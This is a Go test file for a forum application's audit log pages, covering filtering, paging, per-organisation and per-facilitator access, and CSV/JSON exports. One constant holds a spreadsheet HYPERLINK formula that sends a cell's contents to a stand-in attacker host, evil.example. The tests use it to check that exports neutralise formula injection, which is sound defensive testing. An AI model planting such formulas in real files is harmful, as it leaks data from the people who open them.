package server_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"chorus/account"
	"chorus/audit"
	"chorus/forum"
	"chorus/internal/secret"
)

// auditEnv is an installation with two organisations, a forum in each, the
// people who read their trails and entries to find.
type auditEnv struct {
	*env
	Admin, OrgAdminA, FacA, FacB *client
	ForumA, ForumB               *forum.Forum
	OrgA, OrgB                   *account.Organisation
	FacAID                       string
}

// formula is content a spreadsheet would run if it were not neutralised.
const formula = `=HYPERLINK("https://evil.example/?"&A1,"Click")`

func newAuditEnv(t *testing.T, store string) *auditEnv {
	t.Helper()
	e := newEnvOn(t, store)
	admin, _ := e.setupAdmin()
	ctx := context.Background()
	by := principalFor(t, e, "ada@example.org")
	a := &auditEnv{env: e, Admin: admin}
	var err error
	if a.OrgA, err = e.Accounts.CreateOrganisation(ctx, by, "Organisation A"); err != nil {
		t.Fatal(err)
	}
	if a.OrgB, err = e.Accounts.CreateOrganisation(ctx, by, "Organisation B"); err != nil {
		t.Fatal(err)
	}
	if _, err := e.Accounts.AddUser(ctx, nil, account.NewUser{Email: "oa@example.org", Name: "Org admin A", Password: "password oa@example.org"},
		account.RoleOrgAdmin, account.OrganisationScope(a.OrgA.ID)); err != nil {
		t.Fatal(err)
	}
	if a.ForumA, err = e.Forums.CreateForum(ctx, by, forum.ForumSettings{OrgID: a.OrgA.ID, Name: "Forum A", OpenJoin: true}); err != nil {
		t.Fatal(err)
	}
	if a.ForumB, err = e.Forums.CreateForum(ctx, by, forum.ForumSettings{OrgID: a.OrgB.ID, Name: "Forum B", OpenJoin: true}); err != nil {
		t.Fatal(err)
	}
	facilitator := func(f *forum.Forum, email, name string) (*client, string) {
		u := &account.User{ID: secret.NewID(), Email: email, Name: name, PasswordHash: secret.HashPassword("password " + email), CreatedAt: time.Now()}
		if err := e.Store.CreateUser(ctx, u); err != nil {
			t.Fatal(err)
		}
		if _, err := e.Forums.Join(ctx, &account.Principal{User: u}, f.ID, name); err != nil {
			t.Fatal(err)
		}
		if err := e.Forums.SetRole(ctx, by, f.ID, u.ID, forum.RoleFacilitator); err != nil {
			t.Fatal(err)
		}
		c := e.client()
		c.signIn(email, "password "+email)
		return c, u.ID
	}
	a.FacA, a.FacAID = facilitator(a.ForumA, "fa@example.org", "Fiona of A")
	a.FacB, _ = facilitator(a.ForumB, "fb@example.org", "Farid of B")
	a.OrgAdminA = e.client()
	a.OrgAdminA.signIn("oa@example.org", "password oa@example.org")

	scopeA, scopeB := account.OrganisationScope(a.OrgA.ID).String(), account.OrganisationScope(a.OrgB.ID).String()
	day := func(d int) time.Time { return time.Date(2026, 3, d, 12, 0, 0, 0, time.UTC) }
	for _, en := range []audit.Entry{
		{Subject: "comment:alpha", Action: "moderation.hide", ActorID: a.FacAID, Forum: a.ForumA.ID, Scope: scopeA, At: day(1),
			Reason: "names a child", Before: "Sam at Oakfield\nsecond line", After: ""},
		{Subject: "comment:bravo", Action: "moderation.edit", ActorID: a.FacAID, Forum: a.ForumA.ID, Scope: scopeA, At: day(2),
			Reason: "+44 7700 900123 removed", Before: formula, After: "@SUM(A1:A2)"},
		{Subject: "issue:charlie", Action: "issue.status", ActorID: a.FacAID, Forum: a.ForumA.ID, Scope: scopeA, At: day(10),
			Reason: "-1 duplicate", Detail: "open → resolved"},
		{Subject: "comment:delta", Action: "moderation.hide", Forum: a.ForumB.ID, Scope: scopeB, At: day(3), Reason: "abuse"},
		{Subject: "user:echo", Action: "user.disable", At: day(4), Reason: "left"},
	} {
		en.ID = secret.NewID()
		if err := e.Store.AppendEntry(ctx, &en); err != nil {
			t.Fatal(err)
		}
	}
	return a
}

// subjects lists which of the test's subjects a body holds, in order of
// the list.
func subjects(body string) []string {
	var out []string
	for _, s := range []string{"comment:alpha", "comment:bravo", "issue:charlie", "comment:delta", "user:echo"} {
		if strings.Contains(body, s) {
			out = append(out, s)
		}
	}
	return out
}

func wantSubjects(t *testing.T, what, body string, want ...string) {
	t.Helper()
	if got := subjects(body); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("%s shows %v; want %v", what, got, want)
	}
}

func TestAuditPages(t *testing.T) { onEachStore(t, testAuditPages) }

func testAuditPages(t *testing.T, store string) {
	a := newAuditEnv(t, store)
	t.Run("AdminFilters", func(t *testing.T) {
		r := a.Admin.get("/admin/audit")
		wantStatus(t, r, 200)
		wantSubjects(t, "unfiltered", r.Body, "comment:alpha", "comment:bravo", "issue:charlie", "comment:delta", "user:echo")
		wantContains(t, r.Body, `method="get" action="/admin/audit"`, "names a child", "<details>", "Sam at Oakfield<br>second line",
			`href="/admin/audit.csv"`, `href="/admin/audit.json"`, "fa@example.org")
		for _, c := range []struct {
			query string
			want  []string
		}{
			{"action=moderation.", []string{"comment:alpha", "comment:bravo", "comment:delta"}},
			{"action=issue.", []string{"issue:charlie"}},
			{"forum=" + a.ForumA.ID, []string{"comment:alpha", "comment:bravo", "issue:charlie"}},
			{"actor=FA@example.org", []string{"comment:alpha", "comment:bravo", "issue:charlie"}},
			{"actor=" + a.FacAID + "&action=moderation.edit", []string{"comment:bravo"}},
			{"from=2026-03-02&to=2026-03-04", []string{"comment:bravo", "comment:delta", "user:echo"}},
			{"to=2026-03-01", []string{"comment:alpha"}},
			{"action=nothing.", nil},
		} {
			r := a.Admin.get("/admin/audit?" + c.query)
			wantStatus(t, r, 200)
			wantSubjects(t, c.query, r.Body, c.want...)
			if q, _ := url.ParseQuery(c.query); c.want != nil {
				wantContains(t, r.Body, `href="/admin/audit.csv?`+strings.ReplaceAll(q.Encode(), "&", "&amp;")+`"`)
			}
		}
		r = a.Admin.get("/admin/audit?action=nothing.")
		wantContains(t, r.Body, "No entries match these filters.", `value="nothing."`, "Clear filters")
	})
	t.Run("ErrBadDate", func(t *testing.T) {
		r := a.Admin.get("/admin/audit?from=31/03/2026")
		wantStatus(t, r, 400)
		wantContains(t, r.Body, "Enter a date like 2026-03-31.", `aria-invalid="true"`, `value="31/03/2026"`)
		r = a.Admin.get("/admin/audit?from=2026-03-05&to=2026-03-04")
		wantStatus(t, r, 400)
		wantContains(t, r.Body, "The end date must be on or after the start date.")
		wantStatus(t, a.Admin.get("/admin/audit.csv?to=soon"), 400)
	})
	t.Run("Paging", func(t *testing.T) {
		ctx := context.Background()
		for i := range 55 {
			if err := a.Store.AppendEntry(ctx, &audit.Entry{ID: secret.NewID(), At: time.Now(), Action: "paging.test", Subject: fmt.Sprintf("page:%02d", i)}); err != nil {
				t.Fatal(err)
			}
		}
		r := a.Admin.get("/admin/audit?action=paging.")
		wantContains(t, r.Body, "page:54", "page:05", "Older entries")
		if strings.Contains(r.Body, "page:04") {
			t.Fatal("first page holds more than 50 entries")
		}
		older := regexpFind(t, r.Body, `href="(/admin/audit\?[^"]*before=[^"]+)"`)
		r = a.Admin.get(strings.ReplaceAll(older, "&amp;", "&"))
		wantStatus(t, r, 200)
		wantContains(t, r.Body, "page:04", "page:00", "Newest entries")
		if strings.Contains(r.Body, "page:05") || strings.Contains(r.Body, "Older entries") || strings.Contains(r.Body, "comment:alpha") {
			t.Fatal("second page repeats entries or loses the filter")
		}
	})
	t.Run("OrgAdminSeesOwnOrganisation", func(t *testing.T) {
		r := a.OrgAdminA.get("/admin/audit")
		wantStatus(t, r, 200)
		wantSubjects(t, "organisation A's administrator", r.Body, "comment:alpha", "comment:bravo", "issue:charlie")
		r = a.OrgAdminA.get("/admin/audit?forum=" + a.ForumB.ID)
		wantSubjects(t, "organisation A's administrator asking for forum B", r.Body)
		r = a.OrgAdminA.get("/admin/audit.json")
		wantStatus(t, r, 200)
		wantSubjects(t, "organisation A's administrator's export", r.Body, "comment:alpha", "comment:bravo", "issue:charlie")
		if strings.Contains(r.Body, "Forum B") || strings.Contains(r.Body, "abuse") {
			t.Fatal("export holds another organisation's entries")
		}
	})
	t.Run("ForumFacilitator", func(t *testing.T) {
		path := "/forums/" + a.ForumA.ID + "/audit"
		r := a.FacA.get(path)
		wantStatus(t, r, 200)
		wantSubjects(t, "forum A's facilitator", r.Body, "comment:alpha", "comment:bravo", "issue:charlie")
		wantContains(t, r.Body, "Fiona of A", `<option value="`+a.FacAID+`">Fiona of A</option>`, "names a child", `href="`+path+`.csv"`)
		if strings.Contains(r.Body, "fa@example.org") {
			t.Fatal("the forum's audit page shows email addresses")
		}
		r = a.FacA.get(path + "?action=issue.")
		wantSubjects(t, "filtered", r.Body, "issue:charlie")
		// The forum is the page's: another forum in the query changes nothing.
		r = a.FacA.get(path + "?forum=" + a.ForumB.ID)
		wantSubjects(t, "with another forum in the query", r.Body, "comment:alpha", "comment:bravo", "issue:charlie")
		r = a.FacA.get(path + ".json?action=moderation.")
		wantStatus(t, r, 200)
		var got []map[string]any
		if err := json.Unmarshal([]byte(r.Body), &got); err != nil {
			t.Fatal(err)
		}
		if len(got) != 2 || got[0]["subject"] != "comment:bravo" || got[1]["subject"] != "comment:alpha" || got[0]["actor"] != "Fiona of A" {
			t.Fatalf("forum export: %v", got)
		}
	})
	t.Run("OtherFacilitatorRefused", func(t *testing.T) {
		for _, p := range []string{"", ".csv", ".json"} {
			wantStatus(t, a.FacB.get("/forums/"+a.ForumA.ID+"/audit"+p), 403)
			wantStatus(t, a.FacA.get("/forums/no-such-forum/audit"+p), 404)
		}
		r := a.FacB.get("/forums/" + a.ForumB.ID + "/audit")
		wantStatus(t, r, 200)
		wantSubjects(t, "forum B's facilitator", r.Body, "comment:delta")
		wantStatus(t, a.FacA.get("/admin/audit.csv"), 403)
	})
}

func TestAuditExports(t *testing.T) { onEachStore(t, testAuditExports) }

func testAuditExports(t *testing.T, store string) {
	a := newAuditEnv(t, store)
	t.Run("CSV", func(t *testing.T) {
		r := a.Admin.get("/admin/audit.csv?forum=" + a.ForumA.ID + "&from=2026-03-01&to=2026-03-31") // the seeded entries, not the forum's creation
		wantStatus(t, r, 200)
		if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, ".csv") {
			t.Fatalf("Content-Disposition %q", cd)
		}
		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Fatalf("Content-Type %q", ct)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 4 || rows[0][1] != "When" || rows[1][5] != "issue:charlie" || rows[3][5] != "comment:alpha" {
			t.Fatalf("CSV rows %q", rows)
		}
		bravo := rows[2]
		// Formula starts are neutralised; removing one leading apostrophe
		// gives back the original text.
		for i, want := range map[int]string{10: formula, 11: "@SUM(A1:A2)", 8: "+44 7700 900123 removed"} {
			if bravo[i] != "'"+want {
				t.Errorf("cell %d = %q; want %q", i, bravo[i], "'"+want)
			}
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
		if rows[1][8] != "'-1 duplicate" || rows[3][10] != "Sam at Oakfield\nsecond line" || rows[3][3] != "fa@example.org" {
			t.Fatalf("CSV cells %q", rows)
		}
	})
	t.Run("JSON", func(t *testing.T) {
		r := a.Admin.get("/admin/audit.json?action=moderation.")
		wantStatus(t, r, 200)
		if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, ".json") {
			t.Fatalf("Content-Disposition %q", cd)
		}
		var got []struct {
			Seq     int64     `json:"seq"`
			At      time.Time `json:"at"`
			Subject string    `json:"subject"`
			Forum   string    `json:"forum"`
			Reason  string    `json:"reason"`
			Before  string    `json:"before"`
			After   string    `json:"after"`
		}
		if err := json.Unmarshal([]byte(r.Body), &got); err != nil {
			t.Fatal(err)
		}
		if len(got) != 3 || got[0].Subject != "comment:delta" || got[1].Subject != "comment:bravo" || got[2].Subject != "comment:alpha" {
			t.Fatalf("JSON export %+v", got)
		}
		if b := got[1]; b.Before != formula || b.After != "@SUM(A1:A2)" || b.Forum != a.ForumA.ID || !b.At.Equal(time.Date(2026, 3, 2, 12, 0, 0, 0, time.UTC)) {
			t.Fatalf("JSON entry %+v", b)
		}
		r = a.Admin.get("/admin/audit.json?action=nothing.")
		wantStatus(t, r, 200)
		if strings.TrimSpace(r.Body) != "[]" {
			t.Fatalf("empty export %q; want []", r.Body)
		}
	})
	t.Run("RedactedContentLeavesExports", func(t *testing.T) {
		log := audit.NewLog(a.Store, time.Now)
		if err := log.Redact(context.Background(), "comment:bravo"); err != nil {
			t.Fatal(err)
		}
		for _, p := range []string{"/admin/audit.json", "/admin/audit.csv", "/admin/audit", "/forums/" + a.ForumA.ID + "/audit.csv"} {
			r := a.Admin.get(p)
			wantStatus(t, r, 200)
			wantContains(t, r.Body, "comment:bravo", "7700 900123 removed") // the reason stays
			if strings.Contains(r.Body, "HYPERLINK") || strings.Contains(r.Body, "SUM(A1") {
				t.Fatalf("%s still shows erased content", p)
			}
		}
	})
}

// regexpFind returns the first group of pattern in s.
func regexpFind(t *testing.T, s, pattern string) string {
	t.Helper()
	m := regexp.MustCompile(pattern).FindStringSubmatch(s)
	if m == nil {
		t.Fatalf("no match for %s", pattern)
	}
	return m[1]
}
